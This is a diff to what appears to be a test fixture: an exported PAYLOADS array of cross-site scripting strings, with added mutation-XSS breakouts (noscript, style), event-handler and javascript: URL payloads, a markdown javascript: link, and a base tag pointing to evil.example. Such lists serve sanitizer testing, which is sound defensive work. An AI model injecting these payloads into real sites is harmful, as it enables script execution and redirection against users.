@@ -13,4 +13,11 @@ export const PAYLOADS = [
   '{{constructor.constructor("alert(1)")()}}',
   '\u2028</script><script>alert(1)</script>',
   '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  // What a browser reads in another way the second time (mutation), and what runs or leads away without a script.
+  '<noscript><p title="</noscript><svg onload=alert(1)>">',
+  '<style><a title="</style><svg onload=alert(1)>">',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<base href=//evil.example/>',
+  '<form action=javascript:alert(1)><button>x</button></form>',
+  '[x](javascript:alert(1))',
 ];
